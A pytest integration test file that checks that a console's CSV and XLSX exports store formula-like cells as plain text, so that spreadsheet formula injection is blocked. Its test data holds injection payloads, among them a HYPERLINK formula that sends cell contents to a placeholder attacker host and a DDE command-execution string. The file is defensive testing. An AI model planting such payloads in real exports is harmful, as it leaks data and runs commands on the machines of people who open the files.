"""The console's exports are safe to open in Excel (issue 18): a cell that begins like a formula
is text, in the CSV (a leading ') and in the XLSX (a typed string cell, never a formula)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from consolekit import NOW, ROSTER, Server, add_user, console_config, running, sign_in

pytestmark = pytest.mark.integration

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"点此")': "E101",
    "+cmd|' /C calc'!A0": "E102",
    "-2+3": "E103",
    "@SUM(1,2)": "E104",
}


@pytest.fixture
def server(write: Callable[[str, str], Path]) -> Iterator[Server]:
    rows = "".join(
        f'{pid},"{name.replace(chr(34), chr(34) * 2)}",研发部,2026-06-30,\n'
        for name, pid in HOSTILE.items()
    )
    people = write("people.csv", ROSTER + rows + "=E105,周九,@研发,2026-06-30,\n")
    config = console_config(people.parent)
    add_user(config, "admin", "--admin")
    with running(config, NOW) as srv:
        yield srv


def test_the_csv_export_writes_formula_like_cells_as_text(server: Server) -> None:
    body = sign_in(server, "admin").get(server.url("/export.csv")).content.decode("utf-8-sig")
    rows = {row[0].lstrip("'"): row for row in csv.reader(io.StringIO(body))}
    for name, pid in HOSTILE.items():
        assert rows[pid][1] == "'" + name
    assert rows["=E105"][:3] == ["'=E105", "周九", "'@研发"]
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert rows["E001"][1] == "张三"  # nothing else changes


def test_the_xlsx_export_has_no_formula_only_text(server: Server) -> None:
    data = sign_in(server, "admin").get(server.url("/export.xlsx")).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    assert not re.search(r'<c [^>]*t="(?!inlineStr|s")', sheet_xml)  # strings only
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name, pid in HOSTILE.items():
        assert cells[pid][1].value == name  # the text as it is, typed as text
        assert cells[pid][1].data_type == "s"
        assert cells[pid][1].quotePrefix
    assert cells["=E105"][0].data_type == "s"
    assert cells["=E105"][2].value == "@研发"
